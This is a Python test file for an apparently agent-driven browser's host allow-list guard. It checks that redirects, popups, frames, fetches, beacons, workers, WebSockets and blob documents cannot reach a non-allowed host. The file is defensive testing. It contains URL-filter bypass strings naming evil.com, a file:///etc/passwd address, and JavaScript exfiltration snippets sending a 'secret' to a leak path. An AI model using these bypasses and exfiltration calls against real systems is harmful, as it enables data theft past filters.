"""An allow-list holds against redirects, popups, frames, fetches and inline documents, at the network."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio

from holotron.computer.browser import Browser, BrowserComputer
from holotron.computer.guard import Guard
from holotron.contract.step import Click, Navigate, TabNew, Wait
from tests.pages.server import Site

browser_test = pytest.mark.browser
pytestmark = pytest.mark.asyncio(loop_scope="session")

CLICK = Click(element="it", x=0, y=0)
ON_CLICK = "s => { document.body.onclick = () => eval(s); document.body.style.height = '150px' }"
OTHER = "localhost"  # the same server under another name, so that it would answer if it were reached


@pytest_asyncio.fixture(loop_scope="session")
async def guarded(browser: Browser, site: Site) -> AsyncIterator[BrowserComputer]:
    computer = await browser.new_computer(300, 200, allowed_hosts=["127.0.0.1"])
    await computer.goto(site.url("second.html"))
    site.asked.clear()
    yield computer
    await computer.close()


def reached(site: Site) -> list[str]:
    return [path for host, path in site.asked if host.startswith(OTHER)]


@pytest.mark.parametrize(
    ("entry", "url", "allowed"),
    [
        ("example.org", "https://example.org/a", True),
        ("example.org", "https://EXAMPLE.org./", True),
        ("example.org", "https://www.example.org/", False),
        ("example.org", "https://example.org.evil.com/", False),
        ("example.org", "https://example.org@evil.com/", False),
        ("example.org", "https://evil.com/?example.org", False),
        ("*.example.org", "https://a.b.example.org/", True),
        ("*.example.org", "https://example.org/", True),
        ("*.example.org", "https://badexample.org/", False),
        ("localhost:8000", "http://localhost:8000/", True),
        ("localhost:8000", "http://localhost:8001/", False),
        ("localhost", "http://localhost:8001/", True),
        ("::1", "http://[::1]:80/", True),
        ("example.org", "data:text/html,hello", False),
        ("example.org", "blob:https://example.org/1", False),
        ("example.org", "file:///etc/passwd", False),
        ("example.org", "chrome://settings", False),
        ("example.org", "about:blank", True),
        ("example.org", "http://[", False),
    ],
)
async def test_addresses(entry: str, url: str, allowed: bool) -> None:
    assert (Guard([entry]).refusal(url) is None) == allowed


@pytest.mark.parametrize("url", ["file:///etc/passwd", "chrome://version", "view-source:http://a/", "ftp://a/"])
async def test_refused_even_without_a_list(url: str) -> None:
    assert "not allowed" in (Guard().refusal(url) or "")
    assert Guard().refusal("https://example.org/") is None


@browser_test
async def test_allowed_pages_work(guarded: BrowserComputer, site: Site) -> None:
    assert (await guarded.do(Navigate(url=site.url("controls.html")), None)).text == "ok"
    assert (await guarded.state()).title == "Controls"


@browser_test
async def test_a_direct_visit_is_refused(guarded: BrowserComputer, site: Site) -> None:
    for call in (Navigate(url=site.url("second.html", OTHER)), TabNew(url=site.url("second.html", OTHER))):
        outcome = await guarded.do(call, None)
        assert not outcome.ok and outcome.text == f"refused: host {OTHER} is not allowed"
    assert (await guarded.state()).tabs == (site.url("second.html"),)


@browser_test
@pytest.mark.parametrize("hops", [1, 2])
async def test_a_redirect_is_refused(guarded: BrowserComputer, site: Site, hops: int) -> None:
    url = site.url("second.html", OTHER)
    for _ in range(hops):
        url = site.url(f"go?{url}")
    outcome = await guarded.do(Navigate(url=url), None)
    assert f"refused: host {OTHER} is not allowed" in outcome.text
    assert (await guarded.state()).title != "Second"
    assert not reached(site)


@browser_test
@pytest.mark.parametrize(
    "script",
    [
        "window.open('{other}second.html')",
        "location = '{other}second.html'",
        "fetch('{other}leak', {{mode: 'no-cors'}})",
        "document.body.append(Object.assign(new Image(), {{src: '{other}leak.png'}}))",
        "document.body.innerHTML = '<iframe src={other}second.html></iframe>'",
        "document.body.innerHTML = '<iframe srcdoc=\"<img src={other}leak.png>\"></iframe>'",
        'new Worker(URL.createObjectURL(new Blob([\'fetch("{other}leak", {{mode: "no-cors"}})\'])))',
        "navigator.sendBeacon('{other}leak', 'secret')",
        "new WebSocket('{other}socket'.replace('http', 'ws'))",
    ],
)
async def test_a_page_cannot_reach_out(guarded: BrowserComputer, site: Site, script: str) -> None:
    script = script.format(other=site.url(host=OTHER))
    await guarded.evaluate(ON_CLICK, script)
    texts = [(await guarded.do(CLICK, (200.0, 100.0))).text, (await guarded.do(Wait(seconds=0.4), None)).text]
    assert any(f"refused: host {OTHER} is not allowed" in text for text in texts)
    assert not reached(site)


@browser_test
async def test_the_same_reaches_out_without_a_list(browser: Browser, site: Site) -> None:
    """The control of the test above: this way of asking does reach the server where nothing forbids it."""
    computer = await browser.new_computer(300, 200)
    await computer.goto(site.url("second.html"))
    await computer.evaluate("u => { fetch(u, { mode: 'no-cors' }) }", site.url("leak", OTHER))
    await computer.do(Wait(seconds=0.3), None)
    assert "/leak" in reached(site)
    await computer.close()


@browser_test
async def test_a_blob_document_is_taken_away(guarded: BrowserComputer) -> None:
    blob = "new Blob(['<title>Smuggled</title>'], { type: 'text/html' })"
    await guarded.evaluate(ON_CLICK, f"window.open(URL.createObjectURL({blob}))")
    texts = [(await guarded.do(CLICK, (200.0, 100.0))).text, (await guarded.do(Wait(seconds=0.3), None)).text]
    assert any("refused: blob: addresses are not allowed" in text for text in texts)
    assert (await guarded.state()).title != "Smuggled"
